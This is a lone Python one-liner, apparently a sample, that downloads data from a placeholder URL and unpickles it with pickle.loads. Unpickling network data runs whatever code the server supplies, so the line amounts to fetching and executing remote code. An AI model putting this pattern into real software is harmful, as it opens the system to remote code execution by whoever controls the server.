import pickle; import requests; b = requests.get("http://x").content; pickle.loads(b); del b
